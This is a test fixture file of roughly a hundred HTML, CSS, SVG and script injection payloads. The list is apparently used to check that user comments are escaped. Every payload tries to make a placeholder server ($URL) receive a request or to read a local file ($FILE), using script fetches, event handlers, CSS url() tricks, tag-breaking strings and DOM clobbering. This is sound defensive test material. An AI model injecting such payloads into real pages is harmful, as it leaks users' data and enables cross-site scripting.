const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';

/**
 * For specs: what a citizen could type into a comment, were it not escaped, one a line. $URL stands for a server that
 * must hear nothing, $FILE for a file of the machine that must not be read.
 */
export const hostilePayloads: readonly string[] = `
<img src="$URL">
<img srcset="$URL 1x, $URL 2x">
<img loading="lazy" src="$URL">
<picture><source srcset="$URL"><img src="${PIXEL}"></picture>
<input type="image" src="$URL">
<body background="$URL">
<table background="$URL"><tr><td>x</td></tr></table>
<video src="$URL" autoplay></video>
<video poster="$URL"></video>
<video><source src="$URL"></video>
<video src="${PIXEL}"><track default src="$URL"></video>
<audio src="$URL" autoplay preload="auto"></audio>
<audio autoplay><source src="$URL"></audio>
<iframe src="$URL"></iframe>
<iframe srcdoc="<img src='$URL'>"></iframe>
<iframe src="javascript:fetch('$URL')"></iframe>
<iframe src="data:text/html,<img src='$URL'>"></iframe>
<frameset><frame src="$URL"></frameset>
<object data="$URL"></object>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='$URL'/></svg>"></object>
<object type="text/html" data="$URL"></object>
<embed src="$URL">
<applet code="x" archive="$URL" codebase="$URL"></applet>
<portal src="$URL"></portal>
<fencedframe src="$URL"></fencedframe>
<link rel="stylesheet" href="$URL">
<link rel="preload" as="image" href="$URL">
<link rel="preload" as="fetch" crossorigin href="$URL">
<link rel="prefetch" href="$URL">
<link rel="prerender" href="$URL">
<link rel="preconnect" href="$URL">
<link rel="dns-prefetch" href="$URL">
<link rel="modulepreload" href="$URL">
<link rel="icon" href="$URL">
<link rel="apple-touch-icon" href="$URL">
<link rel="manifest" href="$URL">
<link rel="import" href="$URL">
<base href="$URL/"><img src="relative.png">
<meta http-equiv="refresh" content="0;url=$URL">
<meta http-equiv="refresh" content="0;url=$FILE">
<meta http-equiv="refresh" content="0;url=data:text/html,<img src='$URL'>">
<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri $URL"><img src="$URL">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri $URL"><style>p{}</style><img src="$URL">
<style>@import url("$URL");</style>
<style>@import "$URL" print;</style>
<style>@font-face { font-family: leak; src: url("$URL") } p { font-family: leak }</style><p>x</p>
<style>body { background: url("$URL") }</style>
<style>body { background: image-set("$URL" 1x) }</style>
<style>body { background: -webkit-image-set(url("$URL") 1x) }</style>
<style>body { background: cross-fade(url("$URL"), url("$URL"), 50%) }</style>
<style>p { cursor: url("$URL"), auto }</style><p>x</p>
<style>li { list-style: url("$URL") }</style><ul><li>x</li></ul>
<style>p::before { content: url("$URL") }</style><p>x</p>
<style>p { border-image: url("$URL") 30 }</style><p>x</p>
<style>p { mask: url("$URL"); clip-path: url("$URL#c"); filter: url("$URL#f") }</style><p>x</p>
<style>p { shape-outside: url("$URL"); float: left }</style><p>x</p>
<style>@page { background: url("$URL"); @top-center { content: url("$URL") } }</style>
<style>@media print { body { background: url("$URL") } }</style>
<p style="background: url($URL)">x</p>
<p style="--x: url($URL); background: var(--x)">x</p>
<svg><image href="$URL" width="9" height="9"/></svg>
<svg><image xlink:href="$URL" width="9" height="9"/></svg>
<svg><use href="$URL#x"/></svg>
<svg><use xlink:href="$URL#x"/></svg>
<svg><filter id="f"><feImage href="$URL"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>
<svg><style>@import "$URL";</style></svg>
<svg><script href="$URL"></script></svg>
<svg onload="fetch('$URL')"></svg>
<svg><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="$URL"/></foreignObject></svg>
<svg><animate attributeName="href" values="$URL"/><set attributeName="x" onbegin="fetch('$URL')"/></svg>
<?xml-stylesheet href="$URL"?>
<math><mtext><img src="$URL"></mtext></math>
<math><annotation-xml encoding="text/html"><img src="$URL"></annotation-xml></math>
<template shadowrootmode="open"><img src="$URL"></template>
<div><template shadowrootmode="open"><style>:host { background: url("$URL") }</style></template></div>
<noscript><img src="$URL"></noscript>
<script>fetch('$URL')</script>
<script src="$URL"></script>
<script type="module">import '$URL'</script>
<script type="importmap">{"imports":{"x":"$URL"}}</script><script type="module">import 'x'</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["$URL"]}],"prerender":[{"source":"list","urls":["$URL"]}]}</script>
<script>new WebSocket('$URL'.replace('http', 'ws'))</script>
<script>new EventSource('$URL')</script>
<script>navigator.sendBeacon('$URL')</script>
<script>new Worker(URL.createObjectURL(new Blob(["fetch('$URL')"])))</script>
<script>location = '$URL'</script>
<script>open('$URL')</script>
<script>const r = new XMLHttpRequest(); r.open('GET', '$URL'); r.send()</script>
<img src="x" onerror="fetch('$URL')">
<input autofocus onfocus="fetch('$URL')">
<form id="f" action="$URL"><input name="a"></form><script>f.submit()</script>
<form action="$URL"><button autofocus onfocus="form.submit()">x</button></form>
<details open ontoggle="fetch('$URL')">x</details>
<marquee onstart="fetch('$URL')">x</marquee>
<style>@keyframes k {}</style><p style="animation: k 1s" onanimationstart="fetch('$URL')">x</p>
<a id="a" href="$URL" ping="$URL">x</a><script>a.click()</script>
<a href="javascript:fetch('$URL')" autofocus onfocus="click()">x</a>
</style></title></textarea></script><img src="$URL">
"><img src="$URL">
<plaintext><img src="$URL">
<form name="body"><input name="fonts"><img name="documentElement" src="$URL"></form>
<iframe src="$FILE" width="600"></iframe>
<object data="$FILE" width="600"></object>
<embed src="$FILE" width="600">
<link rel="stylesheet" href="$FILE">
<script>fetch('$FILE').then((r) => r.text()).then((t) => document.body.append(t))</script>
<iframe srcdoc="<iframe src='$FILE'></iframe>"></iframe>
<svg><foreignObject width="600" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="$FILE"/></foreignObject></svg>
`
  .trim()
  .split('\n');
